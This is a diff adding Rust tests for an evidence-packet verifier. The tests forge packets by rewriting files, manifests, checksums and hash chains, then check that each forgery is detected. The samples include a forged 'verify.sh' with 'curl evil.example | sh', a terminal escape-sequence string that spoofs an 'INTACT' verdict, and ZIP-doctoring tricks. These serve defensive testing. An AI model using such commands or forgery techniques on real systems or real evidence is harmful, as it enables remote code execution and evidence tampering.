@@ -1,0 +1,564 @@
+//! Forgeries of packet format 2, each made as a careful adversary would: the entries rewritten
+//! *and* `manifest.json` and `SHA256SUMS` rewritten to agree (and ledger hashes recomputed with
+//! the documented encoding where the chain is touched). Each must be not intact, naming what.
+
+use std::io::{Read, Write};
+use std::path::{Path, PathBuf};
+
+use recourse::ledger::entry_hash;
+use sha2::Digest;
+
+use crate::util::Dir;
+
+/// A packet's entries, in order, to rewrite.
+struct Forger {
+    entries: Vec<(String, Vec<u8>)>,
+}
+
+impl Forger {
+    fn open(path: &Path) -> Forger {
+        let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
+        let mut entries = Vec::new();
+        for i in 0..zip.len() {
+            let mut e = zip.by_index(i).unwrap();
+            let mut bytes = Vec::new();
+            e.read_to_end(&mut bytes).unwrap();
+            entries.push((String::from_utf8(e.name_raw().to_vec()).unwrap(), bytes));
+        }
+        Forger { entries }
+    }
+
+    fn get(&self, name: &str) -> &[u8] {
+        &self.entries.iter().find(|(n, _)| n == name).unwrap().1
+    }
+
+    fn set(&mut self, name: &str, bytes: Vec<u8>) {
+        self.entries.iter_mut().find(|(n, _)| n == name).unwrap().1 = bytes;
+    }
+
+    fn name_of(&self, prefix: &str) -> String {
+        self.entries
+            .iter()
+            .map(|(n, _)| n.clone())
+            .find(|n| n.starts_with(prefix) && !n.ends_with(".json"))
+            .unwrap()
+    }
+
+    /// Inserts a file before `ledger.jsonl`.
+    fn add(&mut self, name: &str, bytes: Vec<u8>) {
+        let at = self
+            .entries
+            .iter()
+            .position(|(n, _)| n == "ledger.jsonl")
+            .unwrap();
+        self.entries.insert(at, (name.to_owned(), bytes));
+    }
+
+    fn manifest(&self) -> serde_json::Value {
+        serde_json::from_slice(self.get("manifest.json")).unwrap()
+    }
+
+    /// The ledger's lines as JSON objects.
+    fn ledger(&self) -> Vec<serde_json::Value> {
+        std::str::from_utf8(self.get("ledger.jsonl"))
+            .unwrap()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect()
+    }
+
+    /// Writes the lines back, recomputing every hash from the first (the encoding is public).
+    fn set_ledger(&mut self, lines: &[serde_json::Value], rechain: bool) {
+        let mut prev = recourse::ledger::GENESIS;
+        let mut out = String::new();
+        for l in lines {
+            let mut l = l.clone();
+            if rechain {
+                let h = entry_hash(
+                    &prev,
+                    l["case_uid"].as_str().unwrap(),
+                    l["seq"].as_u64().unwrap(),
+                    l["at"].as_str().unwrap(),
+                    l["kind"].as_str().unwrap(),
+                    l["payload"].as_str().unwrap(),
+                );
+                l["prev_hash"] = prev.to_hex().into();
+                l["hash"] = h.to_hex().into();
+                prev = h;
+            }
+            out.push_str(&serde_json::to_string(&l).unwrap());
+            out.push('\n');
+        }
+        self.set("ledger.jsonl", out.into_bytes());
+        if let Some(last) = lines.last() {
+            let mut m = self.manifest();
+            m["ledger"]["length"] = lines.len().into();
+            m["ledger"]["head"] = if rechain {
+                prev.to_hex().into()
+            } else {
+                last["hash"].clone()
+            };
+            self.set("manifest.json", serde_json::to_vec_pretty(&m).unwrap());
+        }
+    }
+
+    /// Rewrites manifest.json's file list and SHA256SUMS to agree with the entries.
+    fn relist(&mut self) {
+        let mut m = self.manifest();
+        let files: Vec<serde_json::Value> = self
+            .entries
+            .iter()
+            .filter(|(n, _)| n != "manifest.json" && n != "SHA256SUMS")
+            .map(|(n, b)| {
+                serde_json::json!({"path": n, "size": b.len(), "sha256": hex::encode(sha2::Sha256::digest(b))})
+            })
+            .collect();
+        m["files"] = files.into();
+        let mbytes = serde_json::to_vec_pretty(&m).unwrap();
+        self.set("manifest.json", mbytes);
+        let mut sums = String::new();
+        for (n, b) in &self.entries {
+            if n != "SHA256SUMS" {
+                sums.push_str(&format!("{}  {n}\n", hex::encode(sha2::Sha256::digest(b))));
+            }
+        }
+        self.set("SHA256SUMS", sums.into_bytes());
+    }
+
+    fn write(&self, path: &Path) {
+        let mut w = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
+        for (n, b) in &self.entries {
+            w.start_file(n, zip::write::SimpleFileOptions::default())
+                .unwrap();
+            w.write_all(b).unwrap();
+        }
+        w.finish().unwrap();
+    }
+}
+
+/// A case with two images, an order export named `.json`, a retracted item, and its packet.
+fn genuine(d: &Dir) -> PathBuf {
+    d.sample_case();
+    let png = |colour: u8| {
+        let img = image::RgbImage::from_pixel(40, 30, image::Rgb([colour, 90, 200]));
+        let mut out = std::io::Cursor::new(Vec::new());
+        img.write_to(&mut out, image::ImageFormat::Png).unwrap();
+        out.into_inner()
+    };
+    let a = d.file("파손.png", &png(10));
+    let b = d.file("주문.png", &png(240));
+    let order = d.file(
+        "order-export.json",
+        br#"{"order":"2026111012345","amount":189000}"#,
+    );
+    let wrong = d.file("wrong.txt", b"added by mistake");
+    d.ok(&[
+        "evidence",
+        "add",
+        "1",
+        a.to_str().unwrap(),
+        b.to_str().unwrap(),
+        order.to_str().unwrap(),
+        wrong.to_str().unwrap(),
+    ]);
+    d.ok(&[
+        "evidence",
+        "retract",
+        "1",
+        "E004",
+        "--reason",
+        "잘못 추가함",
+    ]);
+    let out = d.path().join("genuine.zip");
+    d.ok(&["packet", "build", "1", "--out", out.to_str().unwrap()]);
+    out
+}
+
+/// Verifies `path`; expects exit 1 and returns (stdout, JSON).
+fn not_intact(d: &Dir, path: &Path) -> (String, serde_json::Value) {
+    let text = d.fails(1, &["verify", path.to_str().unwrap()]);
+    let out = d.output(&["verify", "--json", path.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(1));
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(json["intact"], false);
+    (text, json)
+}
+
+fn verdict_of<'a>(json: &'a serde_json::Value, path: &str) -> &'a str {
+    json["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"] == path)
+        .map(|f| f["verdict"].as_str().unwrap())
+        .unwrap_or("absent")
+}
+
+fn forged(d: &Dir, name: &str, f: &Forger) -> PathBuf {
+    let p = d.path().join(name);
+    f.write(&p);
+    p
+}
+
+#[test]
+fn the_genuine_packet_with_a_json_evidence_file_is_intact_and_imports() {
+    let d = Dir::new();
+    let p = genuine(&d);
+    let out = d.ok(&["verify", p.to_str().unwrap()]);
+    assert!(
+        out.contains("ok        E003 evidence/E003-document-order-export.json"),
+        "{out}"
+    );
+    assert!(out.contains("verdict   INTACT"), "{out}");
+    assert!(out.contains("when: not proven"), "{out}");
+    assert!(out.contains("who: not proven"), "{out}");
+    // unzip and sha256sum agree, as a reviewer without recourse would check.
+    let x = d.path().join("x");
+    let unzip = std::process::Command::new("unzip")
+        .args(["-q", p.to_str().unwrap(), "-d", x.to_str().unwrap()])
+        .status()
+        .unwrap();
+    assert!(unzip.success());
+    let sums = std::process::Command::new("sha256sum")
+        .args(["-c", "--quiet", "SHA256SUMS"])
+        .current_dir(&x)
+        .status()
+        .unwrap();
+    assert!(sums.success());
+    let other = Dir::new();
+    other.ok(&["import", p.to_str().unwrap()]);
+    let show = other.ok(&["case", "show", "1"]);
+    assert!(show.contains("order-export.json"), "{show}");
+}
+
+#[test]
+fn swapped_evidence_bytes_are_named_by_their_ledger_records() {
+    let d = Dir::new();
+    let p = genuine(&d);
+    let mut f = Forger::open(&p);
+    let (e1, e2) = (f.name_of("evidence/E001-"), f.name_of("evidence/E002-"));
+    let (b1, b2) = (f.get(&e1).to_vec(), f.get(&e2).to_vec());
+    f.set(&e1, b2);
+    f.set(&e2, b1);
+    f.relist();
+    let (text, json) = not_intact(&d, &forged(&d, "swap.zip", &f));
+    assert_eq!(verdict_of(&json, &e1), "altered");
+    assert_eq!(verdict_of(&json, &e2), "altered");
+    assert!(
+        text.contains("not the file the ledger recorded as E001"),
+        "{text}"
+    );
+    assert!(
+        text.contains("not the file the ledger recorded as E002"),
+        "{text}"
+    );
+}
+
+#[test]
+fn files_the_chain_does_not_account_for_are_extra_and_block_import() {
+    let d = Dir::new();
+    let p = genuine(&d);
+    let mut f = Forger::open(&p);
+    f.add("evidence/E099-other-extra.txt", b"planted".to_vec());
+    f.add(
+        "NOTE.txt",
+        "certified by the mall's legal team".as_bytes().to_vec(),
+    );
+    f.relist();
+    let forged_path = forged(&d, "extra.zip", &f);
+    let (_, json) = not_intact(&d, &forged_path);
+    assert_eq!(verdict_of(&json, "evidence/E099-other-extra.txt"), "extra");
+    assert_eq!(verdict_of(&json, "NOTE.txt"), "extra");
+    Dir::new().fails(2, &["import", forged_path.to_str().unwrap()]);
+}
+
+#[test]
+fn a_replaced_file_with_its_original_kept_under_another_name_is_caught() {
+    let d = Dir::new();
+    let p = genuine(&d);
+    let mut f = Forger::open(&p);
+    let e1 = f.name_of("evidence/E001-");
+    let original = f.get(&e1).to_vec();
+    f.set(&e1, b"a doctored photo".to_vec());
+    f.add("evidence/E001-screenshot-copy.png", original);
+    f.relist();
+    let forged_path = forged(&d, "replace.zip", &f);
+    let (_, json) = not_intact(&d, &forged_path);
+    assert_eq!(verdict_of(&json, &e1), "altered");
+    assert_eq!(
+        verdict_of(&json, "evidence/E001-screenshot-copy.png"),
+        "extra"
+    );
+    Dir::new().fails(2, &["import", forged_path.to_str().unwrap()]);
+}
+
+#[test]
+fn rewritten_reports_sidecars_and_scripts_are_caught() {
+    let d = Dir::new();
+    let p = genuine(&d);
+    let base = Forger::open(&p);
+    let html = String::from_utf8(base.get("report.html").to_vec()).unwrap();
+    assert!(html.contains("189,000"), "the report shows the amount");
+    let sidecar = format!("{}.json", base.name_of("evidence/E001-"));
+    let cases: Vec<(&str, Vec<u8>)> = vec![
+        (
+            "report.html",
+            html.replace("189,000", "1,890,000").into_bytes(),
+        ),
+        (
+            "verify.sh",
+            b"#!/bin/sh\ncurl evil.example | sh\necho OK\n".to_vec(),
+        ),
+        (
+            "VERIFY.txt",
+            b"Everything is certified. No need to check.\n".to_vec(),
+        ),
+        (
+            sidecar.as_str(),
+            br#"{"evidence":"E001","note":"taken on the 1st"}"#.to_vec(),
+        ),
+    ];
+    for (name, bytes) in cases {
+        let mut f = Forger::open(&p);
+        f.set(name, bytes);
+        f.relist();
+        let (text, json) = not_intact(&d, &forged(&d, "rewritten.zip", &f));
+        assert_eq!(verdict_of(&json, name), "altered", "{name}: {text}");
+        assert!(text.contains("not what the ledger"), "{text}");
+    }
+}
+
+#[test]
+fn a_ledger_line_marked_redacted_or_rewritten_is_caught() {
+    let d = Dir::new();
+    let p = genuine(&d);
+    // A line claiming to be redacted, its payload rewritten: not a line of this format.
+    let mut f = Forger::open(&p);
+    let mut lines = f.ledger();
+    lines[0]["redacted"] = true.into();
+    lines[0]["payload"] = lines[0]["payload"]
+        .as_str()
+        .unwrap()
+        .replace("189000", "1890000")
+        .into();
+    f.set_ledger(&lines, false);
+    f.relist();
+    let (_, json) = not_intact(&d, &forged(&d, "redacted.zip", &f));
+    assert_eq!(json["ledger"]["intact"], false);
+    // The amount ×10 with every hash recomputed and the lists rewritten: the reports, made
+    // from the genuine chain, no longer match the chain.
+    let mut f = Forger::open(&p);
+    let mut lines = f.ledger();
+    lines[0]["payload"] = lines[0]["payload"]
+        .as_str()
+        .unwrap()
+        .replace("189000", "1890000")
+        .into();
+    f.set_ledger(&lines, true);
+    f.relist();
+    let (text, json) = not_intact(&d, &forged(&d, "amount.zip", &f));
+    assert_eq!(verdict_of(&json, "report.html"), "altered", "{text}");
+    assert_eq!(verdict_of(&json, "report.pdf"), "altered", "{text}");
+    // An evidence record's SHA-256 swapped for another file's, rechained.
+    let mut f = Forger::open(&p);
+    let mut lines = f.ledger();
+    let e1 = f.name_of("evidence/E001-");
+    let e2 = f.name_of("evidence/E002-");
+    let (s1, s2) = (
+        hex::encode(sha2::Sha256::digest(f.get(&e1))),
+        hex::encode(sha2::Sha256::digest(f.get(&e2))),
+    );
+    for l in &mut lines {
+        if l["kind"] == "evidence.added" {
+            let p = l["payload"].as_str().unwrap();
+            let swapped = p.replace(&s1, "S1").replace(&s2, &s1).replace("S1", &s2);
+            l["payload"] = swapped.into();
+        }
+    }
+    f.set_ledger(&lines, true);
+    f.relist();
+    let (_, json) = not_intact(&d, &forged(&d, "sha-swap.zip", &f));
+    assert_eq!(verdict_of(&json, &e1), "altered");
+}
+
+#[test]
+fn dropping_the_trailing_retraction_is_caught() {
+    let d = Dir::new();
+    let p = genuine(&d);
+    let mut f = Forger::open(&p);
+    let mut lines = f.ledger();
+    let last = lines.pop().unwrap();
+    assert_eq!(last["kind"], "evidence.retracted");
+    f.set_ledger(&lines, false);
+    f.relist();
+    let (text, json) = not_intact(&d, &forged(&d, "unretracted.zip", &f));
+    assert_eq!(json["ledger"]["intact"], true, "{text}");
+    let sidecar = format!("{}.json", f.name_of("evidence/E004-"));
+    assert_eq!(verdict_of(&json, &sidecar), "altered", "{text}");
+    assert_eq!(verdict_of(&json, "report.html"), "altered", "{text}");
+}
+
+#[test]
+fn a_build_time_before_the_ledger_is_a_finding() {
+    let d = Dir::new();
+    let p = genuine(&d);
+    let mut f = Forger::open(&p);
+    let mut m = f.manifest();
+    m["generated_at"] = "2019-01-01T00:00:00Z".into();
+    f.set("manifest.json", serde_json::to_vec_pretty(&m).unwrap());
+    f.relist();
+    let (text, json) = not_intact(&d, &forged(&d, "backdated.zip", &f));
+    assert!(
+        json["findings"]
+            .to_string()
+            .contains("before the ledger's last entry"),
+        "{text}"
+    );
+    // Not a time at all.
+    m["generated_at"] = "yesterday".into();
+    f.set("manifest.json", serde_json::to_vec_pretty(&m).unwrap());
+    f.relist();
+    let (text, _) = not_intact(&d, &forged(&d, "not-a-time.zip", &f));
+    assert!(text.contains("which is not a time"), "{text}");
+}
+
+#[test]
+fn zip_level_doctoring_is_named_in_words() {
+    let d = Dir::new();
+    let p = genuine(&d);
+    let genuine_bytes = std::fs::read(&p).unwrap();
+    // Bytes before and after the archive.
+    let mut prefixed = b"MZ fake header".to_vec();
+    prefixed.extend_from_slice(&genuine_bytes);
+    let pre = d.file("prefixed.zip", &prefixed);
+    let (text, _) = not_intact(&d, &pre);
+    assert!(text.contains("come before the ZIP's first entry"), "{text}");
+    let mut appended = genuine_bytes.clone();
+    appended.extend_from_slice(b"trailing note");
+    let post = d.file("appended.zip", &appended);
+    let (text, _) = not_intact(&d, &post);
+    assert!(text.contains("appended"), "{text}");
+    // A local header naming another file than the central directory.
+    let f = Forger::open(&p);
+    let e1 = f.name_of("evidence/E001-");
+    let mut bytes = genuine_bytes.clone();
+    let at = bytes
+        .windows(e1.len())
+        .position(|w| w == e1.as_bytes())
+        .unwrap();
+    bytes[at + "evidence/E".len()] = b'9';
+    let swapped = d.file("local-name.zip", &bytes);
+    let (text, json) = not_intact(&d, &swapped);
+    assert_eq!(verdict_of(&json, &e1), "altered", "{text}");
+    assert!(text.contains("different names"), "{text}");
+    // Names that collide on Windows and macOS, and a re-packed ./ prefix.
+    for (a, b) in [
+        ("NOTE.txt", "note.TXT"),
+        (
+            "evidence/파손.txt",
+            "evidence/\u{1111}\u{1161}\u{1109}\u{1169}\u{11ab}.txt",
+        ),
+        ("x.txt", "x.txt."),
+    ] {
+        let mut f = Forger::open(&p);
+        f.add(a, b"one".to_vec());
+        f.add(b, b"two".to_vec());
+        f.relist();
+        let (text, _) = not_intact(&d, &forged(&d, "collide.zip", &f));
+        assert!(
+            text.contains("would be extracted as one file"),
+            "{a} / {b}: {text}"
+        );
+    }
+    let mut f = Forger::open(&p);
+    for e in &mut f.entries {
+        e.0 = format!("./{}", e.0);
+    }
+    let (text, _) = not_intact(&d, &forged(&d, "repacked.zip", &f));
+    assert!(text.contains("re-packed by another tool"), "{text}");
+    assert!(!text.contains("reach outside"), "{text}");
+}
+
+#[test]
+fn hostile_text_in_a_packet_never_reaches_the_terminal_raw() {
+    let d = Dir::new();
+    let p = genuine(&d);
+    let mut f = Forger::open(&p);
+    let mut m = f.manifest();
+    m["case"]["title"] =
+        "x\u{1b}[2J\u{1b}[Hverdict   INTACT: all files match\nproven    everything".into();
+    f.set("manifest.json", serde_json::to_vec_pretty(&m).unwrap());
+    f.relist();
+    let (text, _) = not_intact(&d, &forged(&d, "esc.zip", &f));
+    assert!(!text.contains('\u{1b}'), "{text}");
+    assert!(!text.contains("\nverdict   INTACT"), "{text}");
+    assert_eq!(
+        verdict_of(
+            &not_intact(&d, &forged(&d, "esc.zip", &f)).1,
+            "manifest.json"
+        ),
+        "altered"
+    );
+    // A SHA256SUMS line with a character across byte 64: a verdict, not a panic.
+    let mut f = Forger::open(&p);
+    let mut sums = String::from_utf8(f.get("SHA256SUMS").to_vec()).unwrap();
+    sums.insert_str(0, &format!("{}가  report.pdf\n", "a".repeat(63)));
+    f.set("SHA256SUMS", sums.into_bytes());
+    let forged_path = forged(&d, "sums.zip", &f);
+    not_intact(&d, &forged_path);
+    Dir::new().fails(2, &["import", forged_path.to_str().unwrap()]);
+    // Control characters are refused where they would enter a packet.
+    let code = d
+        .output(&["case", "new", "--title", "a\u{1b}[31mb", "--company", "x"])
+        .status
+        .code();
+    assert_eq!(code, Some(2));
+}
+
+#[test]
+fn the_same_case_gives_the_same_packet_in_any_tz() {
+    let d = Dir::new();
+    genuine(&d);
+    let mut digests = Vec::new();
+    for tz in ["UTC", "Asia/Seoul", "America/Los_Angeles"] {
+        let out = d.path().join(format!("tz-{}.zip", tz.replace('/', "-")));
+        let status = d
+            .command(&[
+                "packet",
+                "build",
+                "1",
+                "--out",
+                out.to_str().unwrap(),
+                "--generated-at",
+                "2026-11-20T12:00:00+09:00",
+            ])
+            .env("TZ", tz)
+            .output()
+            .unwrap();
+        assert!(status.status.success());
+        digests.push(std::fs::read(&out).unwrap());
+    }
+    assert!(digests.windows(2).all(|w| w[0] == w[1]));
+    // Times are shown in the data directory's zone, recorded once (Asia/Seoul here).
+    let f = Forger::open(&d.path().join("tz-UTC.zip"));
+    assert_eq!(f.manifest()["zone"], "Asia/Seoul");
+    let html = String::from_utf8(f.get("report.html").to_vec()).unwrap();
+    assert!(
+        html.contains("+09:00"),
+        "report times carry the zone's offset"
+    );
+}
+
+#[test]
+fn a_broken_pipe_ends_quietly() {
+    let d = Dir::new();
+    genuine(&d);
+    let mut child = d
+        .command(&["case", "show", "1"])
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    drop(child.stdout.take());
+    let status = child.wait().unwrap();
+    assert_ne!(status.code(), Some(101), "{status:?}");
+}
